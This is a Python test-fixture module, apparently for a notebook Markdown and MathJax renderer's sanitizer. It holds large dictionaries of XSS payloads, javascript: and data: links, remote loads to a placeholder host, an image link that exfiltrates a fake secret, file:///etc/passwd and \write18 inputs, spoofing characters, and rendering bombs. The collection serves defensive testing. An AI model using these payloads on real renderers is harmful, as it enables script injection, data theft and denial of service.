"""Answers that try to act: what a careless model, or whoever wrote a student's file, may send.

``URL`` stands for a server that must never hear of it; ``HIT`` for script that leaves a trace the
tests look for.
"""

# ruff: noqa: E501  # a snippet stands as it is sent

from __future__ import annotations

#: Without quotes, spaces and =, so that it stands in an attribute however that is written.
HIT = "Reflect.set(top,/PWNED/.source,1)"

_DATA_PAGE = "data:text/html,<script>top.PWNED=1</script>"
_BASE64_SVG = (
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0i"
    "dG9wLlBXTkVEPTEiLz4="
)

_HTML = {
    "script": "<script>HIT</script>",
    "script_in_text": "before <script>HIT</script> after",
    "script_src": '<script src="URL/script.js"></script>',
    "script_module": '<script type="module">import "URL/module.js"; HIT</script>',
    "script_split": "<scr<script>ipt>HIT</scr</script>ipt>",
    "script_upper": "<SCRIPT>HIT</SCRIPT>",
    "img_onerror": "<img src=x onerror=HIT>",
    "img_onerror_slashes": "<img/src=x/onerror=HIT>",
    "img_onload": f'<img src="{_BASE64_SVG}" onload="HIT">',
    "svg_onload": "<svg onload=HIT></svg>",
    "svg_animate": '<svg><animate onbegin="HIT" attributeName="x" dur="1s"></svg>',
    "svg_use": '<svg><use href="URL/sprite.svg#a"></use></svg>',
    "svg_foreign": "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "math_href": '<math><mtext><a href="javascript:HIT" id="foreign">x</a></mtext></math>',
    "math_mutation": "<math><mtext><table><mglyph><style><img src=x onerror=HIT></style></table>",
    "noscript_mutation": '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "iframe_srcdoc": '<iframe srcdoc="<script>HIT</script>"></iframe>',
    "iframe_javascript": '<iframe src="javascript:HIT"></iframe>',
    "iframe_src": '<iframe src="URL/frame"></iframe>',
    "object_data": '<object data="URL/object"></object>',
    "object_html": f'<object data="{_DATA_PAGE}"></object>',
    "embed": '<embed src="URL/embed">',
    "video_onerror": "<video><source onerror=HIT></video>",
    "video_src": '<video src="URL/video.mp4" autoplay poster="URL/poster.png"></video>',
    "audio": '<audio src="URL/audio.mp3" autoplay></audio>',
    "body_onload": "<body onload=HIT>",
    "details_ontoggle": "<details open ontoggle=HIT><summary>x</summary></details>",
    "input_autofocus": "<input autofocus onfocus=HIT>",
    "marquee": "<marquee onstart=HIT>x</marquee>",
    "css_animation": "<style>@keyframes k{}</style><b style='animation:k' onanimationstart=HIT>x</b>",
    "template": "<template><img src=x onerror=HIT></template>",
    "comment": "<!-- --!><img src=x onerror=HIT> -->",
    "comment_conditional": "<!--[if gte IE 4]><script>HIT</script><![endif]-->",
    "cdata": "<![CDATA[<img src=x onerror=HIT>]]>",
    "processing_instruction": "<?xml-stylesheet href='URL/x.css'?><img src=x onerror=HIT>",
    "custom_element": "<x-y onclick=HIT id=foreign>x</x-y>",
    "unclosed_attribute": '<a title="\n\n<img src=x onerror=HIT>\n\n">x</a>',
    "html_block": "<div>\n\n<img src=x onerror=HIT>\n\n</div>",
    "entities": "&lt;img src=x onerror=HIT&gt; &#60;script&#62;HIT&#60;/script&#62;",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=URL/refresh">',
    "meta_refresh_script": f'<meta http-equiv="refresh" content="0;url={_DATA_PAGE}">',
    "meta_policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="URL/"><a href="x">x</a>',
    "link_stylesheet": '<link rel="stylesheet" href="URL/style.css">',
    "link_prefetch": '<link rel="prefetch" href="URL/prefetch"><link rel="preconnect" href="URL/">',
    "form": '<form action="URL/form"><input name="q"><button id="foreign">Go</button></form>',
    "button_formaction": '<button formaction="javascript:HIT" autofocus>x</button>',
    "ping": '<a href="https://example.org" ping="URL/ping" id="foreign">x</a>',
    "srcset": '<img srcset="URL/a.png 1x" src="URL/b.png"><picture><source srcset="URL/c.png"></picture>',
    "background": '<table background="URL/table.png"><tr><td background="URL/cell.png">x</table>',
    "dialog": '<dialog open id="foreign">log in again</dialog>',
    "popover": "<div popover id=foreign>x</div><button popovertarget=foreign>x</button>",
    "shadow_root": '<div><template shadowrootmode="open"><img src=x onerror=HIT></template></div>',
}

_LINKS = {
    "link_javascript": "[x](javascript:HIT)",
    "link_javascript_upper": "[x](JaVaScRiPt:HIT)",
    "link_javascript_entity": "[x](javascript&colon;HIT) [y](&#x6A;avascript:HIT)",
    "link_javascript_tab": "[x](java\tscript:HIT) [y](<java\tscript:HIT>) [z](<java&Tab;script:HIT>)",
    "link_javascript_control": "[x](<\x01javascript:HIT>) [y](<&#1;javascript:HIT>)",
    "link_javascript_spaces": "[x](<   javascript:HIT>) [y](<\u00a0javascript:HIT>)",
    "link_data": f"[x](<{_DATA_PAGE}>)",
    "link_vbscript": "[x](vbscript:HIT)",
    "link_file": "[x](file:///etc/passwd)",
    "link_blob": "[x](blob:URL/1)",
    "link_filesystem": "[x](filesystem:URL/1) [y](view-source:URL/1) [z](jar:URL/1!/x)",
    "link_about": "[x](about:blank#foreign) [y](chrome://settings) [z](intent://x#Intent;end)",
    "link_relative": "[x](/lab/api/settings) [y](../../../evil.ipynb) [z](?reset) [w](#foreign)",
    "link_protocol_relative": "[x](//example.org/x) [y](\\\\\\\\example.org\\\\x)",
    "link_autolink": "<javascript:HIT> <data:text/html,HIT> <vbscript:HIT>",
    "link_reference": "[x][r] ![y][r]\n\n[r]: javascript:HIT",
    "link_title": '[x](https://example.org "\\" onmouseover=HIT id=foreign")',
    "link_quote": '[x](https://example.org/"onmouseover="HIT"id="foreign)',
    "link_newline": '[x](https://example.org/\n\n"onclick=HIT)',
    "link_command": "[x](command:workbench.action.terminal.new) [y](vscode://file/etc/passwd)",
    "link_jupyter": "[x](attachment:foreign.png) [y](commandlinker:help:about)",
    "link_in_formula": '![](x$"onerror="HIT"x="$) [](x$"autofocus onfocus="HIT"$)',
}

_IMAGES = {
    "image": "![x](URL/image.png)",
    "image_title": '![x](URL/image.png "onerror=HIT")',
    "image_reference": "![x][i]\n\n[i]: URL/reference.png",
    "image_in_link": "[![x](URL/badge.svg)](https://example.org)",
    "image_svg": f"![x]({_BASE64_SVG})",
    "image_javascript": "![x](javascript:HIT)",
    "image_file": "![x](file:///etc/passwd)",
    "image_relative": "![x](/api/contents) ![y](attachment:x.png)",
    "image_alt": '![" onerror=HIT id=foreign "](URL/alt.png)',
    "image_exfiltration": "![x](URL/steal?secret=sk-123) ![](URL/empty.png)",
    "image_html": '<img src="URL/html.png" width=1 height=1>',
}

_CSS = {
    "style_import": "<style>@import url(URL/import.css);</style>",
    "style_background": "<style>body{background:url(URL/background.png)}</style>",
    "style_font": "<style>@font-face{font-family:x;src:url(URL/font.woff)}*{font-family:x}</style>",
    "style_hide": "<style>.jp-Notebook,.jp-OutputArea{display:none!important}</style>",
    "style_attribute": '<p style="background:url(URL/attribute.png)">x</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff" id="foreign">x</div>',
    "class_of_jupyter": '<div class="jp-OutputArea-output jp-mod-trusted" data-foreign="1">x</div>',
}

_JUPYTER = {
    "commandlinker": (
        '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}" '
        'id="foreign">Run</button>'
    ),
    "mermaid": '```mermaid\ngraph TD; A["<img src=URL/mermaid.png onerror=HIT>"] --> B\n```',
    "mermaid_click": '```mermaid\ngraph TD; A-->B; click A "javascript:HIT"\n```',
    "mermaid_init": "```mermaid\n%%{init:{'securityLevel':'loose','themeCSS':'@import url(URL/m.css)'}}%%\ngraph TD; A-->B\n```",
    "mermaid_div": '<div class="mermaid jp-Mermaid" id="foreign">graph TD; A--&gt;B</div>',
    "fence_info": '```"><img src=x onerror=HIT>\nx\n```',
    "fence_info_class": "```python onload=HIT id=foreign class=jp-Cell\nx\n```",
    "fence_html": "```html\n<script>HIT</script><img src=URL/fence.png>\n```",
    "fence_unclosed": "```\n</code></pre><img src=x onerror=HIT>",
    "fence_svg": "```svg\n<svg onload=HIT></svg>\n```",
    "code_span": "`<img src=x onerror=HIT>` ``</code><script>HIT</script>``",
    "code_indented": "    <img src=x onerror=HIT>\n    </code></pre><script>HIT</script>",
    "heading_id": "# x {#foreign .jp-Cell onclick=HIT}\n\n# location\n\n# <a id=foreign>x</a>",
    "attachment": "![x](attachment:image.png)\n\n<img src=attachment:image.png onerror=HIT>",
    "front_matter": "---\nheader-includes: <script>HIT</script>\n---\n\nx",
    "wiki_and_directive": "[[foreign]] {{HIT}} {% raw %} :::{image} URL/directive.png\n:::",
    "dom_clobbering": (
        "<a id=foreign name=require></a><form id=foreign name=MathJax><input name=startup></form>"
    ),
    "prototype_heading": "# __proto__\n\n## constructor\n\n## hasOwnProperty",
    "widget_view": '<script type="application/vnd.jupyter.widget-view+json">{}</script>',
    "table_cell": "| a | <img src=x onerror=HIT> |\n|---|---|\n| <b id=foreign>x</b> | `|<i>` |",
    "table_alignment": '| a |\n|:-" style="background:url(URL/t.png)|\n| b |',
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=HIT>",
    "task_list": '- [ ] <input type="checkbox" onclick=HIT id="foreign" autofocus onfocus=HIT>',
}

_FORMULAS = {
    "formula_href": r"$\href{javascript:HIT}{x}$ \(\href{javascript:HIT}{y}\)",
    "formula_href_block": "$$\n\\href{javascript:HIT}{x}\n$$",
    "formula_href_fetch": r"$\href{URL/formula}{x}$ $\includegraphics{URL/graphics.png}$",
    "formula_require": r"$\require{html}\class{foreign}{\cssId{foreign}{\style{color:red}{x}}}$",
    "formula_style": r"$\style{background:url(URL/style.png)}{x}$ $\bbox[background:url(URL/b.png)]{x}$",
    "formula_data": r"$\data{foreign=1}{x}$ $\mmlToken{mi}[href='javascript:HIT',id=foreign]{x}$",
    "formula_define": r"$\def\x{\href{javascript:HIT}{x}}\x$ $\newcommand{\y}{\href{javascript:HIT}{y}}\y$",
    "formula_csname": r"$\csname href\endcsname{javascript:HIT}{x}$ $\let\z\href\z{javascript:HIT}{z}$",
    "formula_bomb": r"$\def\a{\a\a}\a$ $\def\b{x\b}\b$",
    "formula_unicode": r"$\unicode[url(URL/font)]{x41}$ $\color{red;background:url(URL/c.png)}{x}$",
    "formula_html": r"$<img src=x onerror=HIT>$ $$</span><script>HIT</script>$$",
    "formula_text": r"$\text{<img src=x onerror=HIT>}$ $\mbox{<script>HIT</script>}$",
    "formula_environment": (
        "\\begin{align}\\href{javascript:HIT}{x}\\end{align}\n\n\\begin{html}<script>HIT</script>\\end{html}"
    ),
    "formula_label": r"$$x \label{foreign} \tag{foreign}$$ and \ref{foreign} \eqref{foreign}",
    "formula_overlay": r"$\rule{200em}{200em}$ $\kern-50em\raise50em{\Huge cached}$ $\smash{x}\llap{y}$",
    "formula_tooltip": r"$\texttip{x}{HIT}$ $\mathtip{x}{y}$ $\toggle{x}{y}\endtoggle$",
    "formula_input": r"\input{/etc/passwd} $\input{/etc/passwd}$ \write18{touch foreign}",
    "formula_unclosed": r"$<img src=x onerror=HIT> \( \[ \begin{align} $$",
    "formula_in_code": r"`$\href{javascript:HIT}{x}$` and `$`<img src=x onerror=HIT>`$`",
    "formula_comment": "$x % \n<img src=x onerror=HIT>\n$",
    "formula_placeholder": "@@0@@ $x$ @@1@@ \x02mathjax0\x03 $<b id=foreign>$ @@<img src=x onerror=HIT>@@",
}

#: Formulas that try to be large, to redefine, to load, to link, to style.
_GREEDY_FORMULAS = {
    "large_genfrac": r"$\genfrac{(}{)}{99999cm}{}{a}{b}$",
    "large_above": r"$a \above 99999cm b$ ${a \abovewithdelims() 9999cm b}$",
    "large_underbracket": r"$\underbracket[30cm]{x}$ $\overbracket[1cm][99cm]{x}$",
    "large_row": "$$\n\\begin{matrix}a\\\\[99cm]b\\end{matrix}\n$$",
    "large_row_blank": "$$\n\\begin{matrix}a\\\\ \n [99cm]b\\end{matrix}\n$$",
    "large_row_star": "$$\n\\begin{matrix}a\\\\*[99cm]b\\\\* [ 9e9 cm ]c\\end{matrix}\n$$",
    "large_row_label": "$$\n\\begin{matrix}a\\\\\\label{x}[99cm]b\\\\\\color{red}[99cm]c\\end{matrix}\n$$",
    "large_row_twice": "$$\n\\begin{matrix}a\\\\[1em][99cm]b\\\\\\\\[99cm]c\\end{matrix}\n$$",
    "large_row_end": "$$\n\\begin{matrix}a\\cr[99cm]b\\newline[99cm]c\\end{matrix}\n$$",
    "large_rows": "$$\n\\begin{matrix}" + "a\\\\" * 900 + "\\end{matrix}\n$$",
    "large_columns": "$$\n\\begin{array}{" + "c" * 1500 + "}a\\end{array}\n$$",
    "large_columns_count": "\\begin{alignat}{999999999}a&=b\\end{alignat}",
    "large_column_width": "$$\n\\begin{array}{p{99cm}m{99cm}@{\\hskip 99cm}c}a\\end{array}\n$$",
    "large_column_repeat": "$$\n\\begin{array}{*{999999}{c}}a\\end{array}\n$$",
    "large_rule": r"$\rule{99cm}{99cm}$ $\Rule{99cm}{99cm}{99cm}$ $\Space{9cm}{9cm}{9cm}$",
    "large_hspace": r"$x\hspace{99cm}y$ $x\hspace*{-99cm}y$ $x\hspace{ 1e9 cm }y$",
    "large_skips": r"$\hskip99cm x\vskip99cm\mskip99mu\kern99cm\mkern99mu\vspace{99cm}$",
    "large_moves": r"$\raise99cm{x}\lower99cm{x}\moveleft99cm{x}\moveright99cm{x}\raisebox{99cm}{x}$",
    "large_fonts": r"$\Huge{\Huge x}$ $\huge x$ $\fontsize{999}{999}\selectfont x$ $\scalebox{99}{x}$",
    "large_scale": r"$\resizebox{99cm}{!}{x}$ $\scriptsize{x}$ $\mathchoice{a}{b}{c}{d}$",
    "large_bbox": r"$\bbox[99cm]{x}$ $\bbox[border:99cm solid red,padding:99cm]{x}$ $\fbox{x}$",
    "large_cfrac": "$" + r"\cfrac{1}{1+" * 60 + "x" + "}" * 60 + "$",
    "large_frac": "$" + r"\frac{" * 200 + "x" + "}{y}" * 200 + "$",
    "large_roots": "$" + r"\sqrt{" * 900 + "x" + "}" * 900 + "$",
    "large_left": "$" + r"\left(" * 200 + "x" + r"\right)" * 200 + "$",
    "large_tower": "$x" + "^{x" * 400 + "}" * 400 + "$",
    "large_unclosed": "$" + "{" * 500 + "x$ $" + "}" * 500 + "x$",
    "large_environments": "$$" + r"\begin{matrix}" * 60 + "x" + r"\end{matrix}" * 60 + "$$",
    "large_text": "$" + "x" * 50_000 + "$",
    "many_formulas": "$x$ " * 3_000,
    "large_tag": r"$$x \tag{\Rule{99cm}{99cm}{0cm}}$$ $$x \tag*{\huge y}$$",
    "large_phantom": r"$\vphantom{\Rule{0cm}{99cm}{0cm}}x$ $\smash[b]{x}$ $\mathllap{x}\mathclap{x}$",
    "large_overlap": r"$\llap{cached}\rlap{cached}\clap{x}\mathrlap{xxxxxxxxx}$",
    "large_arrow": r"$\xrightarrow[\kern99cm]{x}$ $\xleftarrow{\hskip99cm}$ $\Newextarrow{\a}{9,9}{8}$",
    "large_sideset": r"$\sideset{_{\kern99cm}}{}\sum$ $\substack{a\\[99cm]b}$ $\shoveleft[99cm]{x}$",
    "large_multline": "\\begin{multline}[99cm]\na\\\\[99cm]b\n\\end{multline}",
    "large_intertext": "\\begin{align}a\\\\\\intertext{\\Rule{9cm}{9cm}{9cm}}b\\end{align}",
    "large_number": r"$\setlength{\arraycolsep}{99cm}$ $\arraystretch99$ $\renewcommand{\arraystretch}{99}$",
    "redefine_colour": r"$\definecolor{red}{RGB}{255,255,255}$ $\color{red}{x}$",
    "redefine_colour_names": r"$\definecolor{black}{named}{white}\colorlet{blue}{white}$",
    "redefine_colour_block": "$$\n\\definecolor{red}{rgb}{1,1,1}\n$$\n\n$$\n\\definecolor red {rgb} {1,1,1}\n$$",
    "redefine_def": r"$\def\sum{0}$ $\gdef\frac#1#2{0}$ $\edef\x{\x}$ $\xdef\alpha{\beta}$",
    "redefine_let": r"$\let\sum\prod$ $\global\let\frac\binom$ $\futurelet\x\y\z$ $\let\{\}$",
    "redefine_newcommand": r"$\newcommand{\sum}{0}$ $\renewcommand\frac[2]{0}$ $\providecommand\x{y}$",
    "redefine_environment": r"$\newenvironment{align}{a}{b}$ $\renewenvironment{matrix}[1]{}{}$",
    "redefine_operator": r"$\DeclareMathOperator{\sin}{cos}$ $\DeclareMathOperator*\max{min}$",
    "redefine_delimiter": r"$\DeclarePairedDelimiter{\abs}{x}{y}$ $\DeclarePairedDelimiters\a\b\c$",
    "redefine_csname": r"$\expandafter\def\csname sum\endcsname{0}$ $\catcode`\%=12$ $\escapechar=1$",
    "redefine_counter": r"$$x\tag{1}\label{a}$$ $$y\label{a}$$ $\setcounter{equation}{99}$ \eqref{a}",
    "redefine_active": r"$\mathcode`x=0$ $\delcode`(=0$ $\uccode`a=`b$ $\lccode`a=`b$",
    "redefine_everymath": r"$\everymath{\color{white}}$ $\everydisplay{x}$ $\aftergroup\x$",
    "redefine_hidden": r"$\d\label{x}ef\x{y}$ $\re\color{red}quire{html}$ $\hre\tag{}f{javascript:HIT}{x}$",
    "redefine_marks": "$\\def\\x$ {y} $\\x$\n\n$$\\def\\x\n\n{y}$$",
    "redefine_hat": r"$^^5cdef^^5cx{y}$ $\^^64ef\x{y}$",
    "redefine_comment": "$x %\n\\def\\y{z}$ $%$ $x\\%\\def\\x{}$",
    "load_require": r"$\require{html}$ $\require{action}$ $\require {unicode}$ $\require[x]{y}$",
    "load_usepackage": r"$\usepackage{html}$ $\input{x}$ $\include{x}$ $\InputIfFileExists{x}{y}{z}$",
    "load_extension": r"$\require{URL/evil.js}$ $\require{../../evil}$ $\require{[tex]/html}$",
    "load_graphics": r"$\includegraphics{URL/a.png}$ $\includegraphics[width=1em]{URL/b.png}$ $\img{URL/c}$",
    "load_font": r"$\unicode{x41}[url(URL/f.woff)]$ $\unicode[9,9][URL/x]{65}$ $\char 65$",
    "load_physics": r"$\qty{\href{javascript:HIT}{x}}$ $\bra{\url{URL/x}}$ $\ce{\href{URL/y}{x}}$",
    "load_mhchem": r"$\ce{A ->[\href{javascript:HIT}{x}] B}$ $\pu{1 m\style{color:red}{x}}$",
    "load_bussproofs": "\\begin{prooftree}\\AxiomC{\\href{javascript:HIT}{x}}\\end{prooftree}",
    "link_url": r"$\url{javascript:HIT}$ $\href{javascript:HIT}x$ $\hyperref[a]{b}$ $\hypertarget{a}{b}$",
    "link_spaces": "$\\href  {javascript:HIT}  {x}$ $\\href\n{javascript:HIT}{x}$ $\\href%\n{x}{y}$",
    "link_nested": r"$\frac{\href{javascript:HIT}{a}}{\text{\href{javascript:HIT}{b}}}$ $\hat\href{URL/x}{x}$",
    "link_text": r"$\text{a $\href{javascript:HIT}{x}$ b}$ $\mbox{\(\href{javascript:HIT}{x}\)}$",
    "link_subscript": r"$x_\href{javascript:HIT}{x}$ $x^\href{javascript:HIT}{x}$ $\sqrt[\href{URL/x}{3}]{x}$",
    "link_environment": "\\begin{align*}\\href{javascript:HIT}{x}&=\\class{foreign}{y}\\end{align*}",
    "link_array": "$$\n\\begin{array}{c}\\href{javascript:HIT}{x}\\\\\\hline\\cssId{foreign}{y}\\end{array}\n$$",
    "link_eqref": r"$\ref{foreign}$ $\eqref{foreign}$ $\pageref{foreign}$ $\cite{foreign}$",
    "style_class": r"$\class{jp-Cell foreign}{x}$ $\cssId{foreign}{x}$ $\htmlClass{foreign}{x}$",
    "style_html": r"$\htmlId{foreign}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlData{foreign=1}{x}$",
    "style_css": r"$\style{position:fixed;inset:0;background:url(URL/s.png)}{x}$",
    "style_colorbox": r"$\colorbox{red}{x}$ $\fcolorbox{red}{url(URL/c.png)}{x}$ $\pagecolor{black}$",
    "style_color_value": r"$\color{red;position:fixed}{x}$ $\textcolor[HTML]{url(URL/t)}{x}$ $\color[x]{y}z$",
    "style_enclose": r"$\enclose{circle}[mathcolor=red,href=javascript:HIT]{x}$ $\mathtip{x}{y}$",
    "style_token": r"$\mmlToken{mi}[href=javascript:HIT]{x}$ $\mmlToken{maction}{x}$",
    "style_action": r"$\toggle{a}{b}\endtoggle$ $\mathtoggle{a}{b}$ $\texttip{a}{b}$ $\actiontype{x}$",
    "style_invisible": r"$\color{white}{cached}$ $\color{#ffffff00}x$ $\transparent{x}$",
    "style_verb": r"$\verb|\href{javascript:HIT}{x}|$ $\verb*!<img src=x onerror=HIT>!$",
    "style_tag": r"$$x \tag{$\href{javascript:HIT}{y}$}$$ $$x \tag{<img src=x onerror=HIT>}$$",
    "style_lone_backslash": "$x\\$ and $\\$ \\(x\\\\) $$\\$$ $\\\\$",
    "style_marks": r"\(\href{javascript:HIT}{x}\) \[\class{foreign}{x}\] $$\style{x}{y}$$ $\($ \($\)",
}

#: What Markdown's extensions and exports may bring to life.
_EXTENSIONS = {
    "break_attributes": "a<br onclick=HIT>b<br/onload=HIT>c<br\nid=foreign>d<br style='x:y'>e",
    "break_in_cell": "| a |\n|---|\n| b<br><img src=x onerror=HIT><br>c |",
    "break_unclosed": "a<br b<br/ c<br<br>d <brx> <br>\n<script>HIT</script>",
    "task_html": "- [x] <img src=x onerror=HIT>\n- [ ] [y](javascript:HIT)\n* [X] <b id=foreign>z</b>",
    "footnote_link": "x[^1][^2]\n\n[^1]: javascript:HIT\n[^2]: URL/note.png\n[^3]: <URL/x> 'onerror=HIT'",
    "footnote_image": "![^1] ![x][^1]\n\n[^1]: URL/footnote.png",
    "anchor_javascript": '[x](#javascript:HIT) [y](#"onclick=HIT) [z](<# onmouseover=HIT>) ![w](#a)',
    "anchor_reference": "[x][a] [a]\n\n[a]: #foreign 'onclick=HIT'\n[b]: #javascript:HIT",
    "anchor_image": "[![x](URL/anchor.png)](#foreign) ![y](#URL/z.png)",
    "export_blank_lines": "```\n\n\n<img src=x onerror=HIT>\n\n![x](URL/export.png)\n\n```",
    "export_tabs": "```\na\n\t\n![x](URL/tab.png)\n \t \n<script>HIT</script>\n```",
    "export_returns": "```\na\r\r![x](URL/return.png)\r\r<script>HIT</script>\n```",
    "export_div": "</div>\n\n![x](URL/div.png)\n\n<div>\n\n</details></div><img src=x onerror=HIT>",
    "export_pre": "    </pre></div>\n\n\n    ![x](URL/pre.png)\n\n    <pre>\n\n    <script>HIT</script>",
    "export_reference": "&#10;&#10;![x](URL/entity.png)&#10;&#13;&NewLine;&NewLine;<img src=x onerror=HIT>",
    "export_json": '{"a": "\\n\\n![x](URL/json.png)\\n\\n<img src=x onerror=HIT>", "\\r\\r": ["</details>"]}',
}

_LONG = "word " * 2_600 + "\n\n"

#: What folds, is set beside a word, or is cut between two outputs.
_PARTS = {
    "fold_heading": _LONG + "# <img src=x onerror=HIT> </summary><script>HIT</script>",
    "fold_image": _LONG + "![x](URL/fold.png) [y](javascript:HIT)",
    "fold_code": _LONG + "```\n</summary></details><img src=x onerror=HIT>\n```",
    "fold_formula": _LONG + r"$\href{javascript:HIT}{x}$ $\def\sum{0}$ $$\Rule{9cm}{9cm}{9cm}$$",
    "fold_summary": _LONG + "</summary></details></div>\n\n<details open ontoggle=HIT id=foreign>",
    "fold_attribute": _LONG + '"><b id=foreign onclick=HIT>x</b> \u202egnp.exe',
    "fold_table": _LONG + "| <img src=x onerror=HIT> |\n|---|\n| ![x](URL/cell.png) |",
    "fold_reference": "[a]: javascript:HIT\n[b]: URL/x 'onerror=HIT'\n\n"
    + _LONG
    + "[a] ![b] ![c][b]",
    "part_reference": "[a]: <javascript:HIT>\n\n" + "$x$ " * 9 + "\n\n[x][a] ![y][a]\n\n[a]",
    "part_html": "<div>\n\n" + "$x$ " * 9 + "\n\n<img src=x onerror=HIT></div>\n\n</script>",
    "part_list": "".join(f"1. $x$ <img src=x onerror=HIT> ![y](URL/{n}.png)\n" for n in range(12)),
    "part_fence": "$x$ " * 9 + "\n\n```\n" + "<script>HIT</script>\n" * 300 + "```",
    "part_definition": "$x$ " * 9 + "\n\n$\\def\\x{\\href{javascript:HIT}{x}}$\n\n$\\x$",
    "beside_href": r"H$_{\href{javascript:HIT}{2}}$O m$^{\class{foreign}{2}}$",
    "beside_define": r"a$_\def$ b$^\require$ c$_\href$ d$^{\def\x{y}}$",
    "beside_large": r"a$^{\Rule{99cm}{99cm}{0cm}}$ b$_{\kern99cm}$ c$^\Huge$",
    "beside_html": "a$^{<img src=x onerror=HIT>}$ b$_{</span><script>HIT</script>}$",
    "loose_href": r"$ \href{javascript:HIT}{x} $ $ \style{position:fixed}{x} $",
    "loose_html": r"$ \alpha <img src=x onerror=HIT> $ $ \text{<script>HIT</script>} $",
    "loose_lines": "$ \\alpha\n<script>HIT</script>\n $ and $\n\\def\\x{y} $",
    "cases_length": "$$\n\\begin{dcases}a\\\\[99cm]b\\\\*[99cm]c\\end{dcases}\n$$",
    "instead_joins": r"$\de\label{x}f\x{y}$ $\h\color{red}ref{javascript:HIT}{x}$ $\bm\href{URL/x}{x}$",
    "instead_tag": r"$$x \tag{\href{javascript:HIT}{y}}$$ $$x \tag{1}\tag{$ \href{URL/x}{y}$}$$",
    "instead_space": r"$x\hspace{1em}\href{javascript:HIT}{y}$ $x\hspace{9em{}}y$ $x\hspace{\Huge}y$",
    "environment_star": "\\begin{align*}\\class{foreign}{x}\\end{align*} \\begin{gather*}\\\\[99cm]\\end{gather*}",
    "environment_twice": "\\begin{align}\\begin{align}\\href{javascript:HIT}{x}\\end{align}\\end{align}",
    "bracket_formula": r"\(\text{</span>}<img src=x onerror=HIT>\) \[\require{html}\cssId{foreign}{x}\]",
    "json_keys": '{"<img src=x onerror=HIT>": {"</summary><script>HIT</script>": "URL/x"}, "__proto__": 1}',
    "json_fenced": '```json\n{"a": "<script>HIT</script>", "b": ["javascript:HIT", "data:text/html,x"]}\n```',
    "autolink_tail": 'https://a.org/"onmouseover=HIT http://a.org/<script>HIT</script> <URL/x"onclick=HIT>',
    "code_frame": '```" style="background:url(URL/frame.png)"\nx\n```\n\n~~~ "><script>HIT</script>\nx\n~~~',
    "link_title": '[x](https://example.org "onclick=HIT id=foreign") [y](https://example.org \'"><b id=foreign>\')',
}

#: Where two rules of the drawing meet, or one is taken at its word many times.
_SEAMS = {
    "seam_nested_quotes": "> " * 10_000 + "<img src=x onerror=HIT>",
    "seam_nested_lists": "".join(f"{' ' * 2 * n}- ![x](URL/{n}.png)\n" for n in range(90)),
    "seam_nested_emphasis": "*a _b " * 3_000 + "<script>HIT</script>" + " b_ a*" * 3_000,
    "seam_table_formula": "| $a|b$ | $\\href{javascript:HIT}{x}$ |\n|---|---|\n| `$` | $x$<br><img src=x onerror=HIT> |",
    "seam_table_escape": "| a\\|<script>HIT</script> | `b\\|` |\n|:-:|--:|\n| ![x](URL/c.png) | [y](data:text/html,HIT) |",
    "seam_task_html": "- [x] <img src=x onerror=HIT>\n- [ ] [y](javascript:HIT)\n- [X] ![z](URL/task.png)\n- [ ]",
    "seam_footnote_html": "a[^1] b[^<img src=x onerror=HIT>]\n\n[^1]: <script>HIT</script> ![x](URL/n.png)\n    [y](javascript:HIT)\n",
    "seam_alt_html": '![<img src=x onerror=HIT>"onload=HIT](https://example.org/a.png "x" onerror=HIT") ![](URL/b.png)',
    "seam_alt_nested": "![a ![b](URL/in.png) [c](javascript:HIT)](https://example.org) [![d](URL/d.png)](#top)",
    "seam_data_urls": "<data:text/html;base64,PHNjcmlwdD4=> [x](data:image/svg+xml,<svg onload=HIT>) [y](DATA:text/html,HIT)",
    "seam_odd_schemes": "[a](file:///etc/passwd) [b](blob:URL/x) [c](filesystem:URL/x) [d](view-source:URL/) [e](mailto:?body=HIT%0d%0abcc:x@y)",
    "seam_entity_scheme": "[a](&#106avascript:HIT) [b](java&#115;cript&#58;HIT) [c](&NewLine;javascript:HIT) [d](\u00adjavascript:HIT)",
    "seam_zero_width": "[a](java\u200bscript:HIT) https://exa\u200bmple.org/\u2060x <scr\u200dipt>HIT</scr\u200dipt> fre\u200bsh",
    "seam_bidi_link": "[https://a.org](https://\u202egro.b\u202c/) `\u2067if x: \u2069` \u061c\u200f\u200e",
    "seam_combining": "Z" + "\u0300\u0301\u0302\u0360" * 800 + " <img src=x onerror=HIT>",
    "seam_long_word": "W" * 60_000
    + "\n\n`"
    + "M" * 20_000
    + "`\n\n| "
    + "T" * 9_000
    + " |\n|---|\n| x |",
    "seam_many_columns": "|"
    + "a|" * 61
    + "\n|"
    + "-|" * 61
    + "\n|"
    + "<img src=x onerror=HIT>|" * 61,
    "seam_formula_in_link": r"[$\href{javascript:HIT}{x}$](https://example.org/$a$) <https://example.org/$\def\x{y}$>",
    "seam_formula_high": r"$"
    + r"\frac{1}{" * 40
    + "x"
    + "}" * 40
    + r"$ $x"
    + "^{y" * 40
    + "}" * 40
    + r"$ $\sqrt" * 30
    + "x$",
    "seam_formula_wide": "$"
    + r"\qquad" * 300
    + "$ $"
    + r"\begin{matrix}"
    + "a&" * 400
    + r"\end{matrix}$ $\overbrace{"
    + "x" * 1_900
    + "}$",
    "seam_formula_array": r"$\begin{array}{p{99cm}@{\rule{99cm}{9cm}}c}x\end{array}$ $\begin{array}{|c|*{9999}{c}}x\end{array}$",
    "seam_formula_unicode": r"$\unicode{x3c}script\unicode{x3e}HIT$ $\char60 img$ $\U0001f600{}^^3cscript^^3e$ $\mmlToken{mi}[href='javascript:HIT']{x}$",
    "seam_fence_in_fence": "````md\n```html\n<script>HIT</script>\n```\n````\n~~~\n```\n</pre><img src=x onerror=HIT>\n",
    "seam_summary_in_code": "`</summary></details>` ``<b id=foreign onclick=HIT>`` ```` ``` </code><script>HIT</script> ````",
}

_MORE = {
    "late_hspace": r"$a\hspace{99999cm}b\hspace*{-9999cm}c$ $\mspace{99999mu}\hskip 9999cm\kern9999cm\mkern9999mu x$",
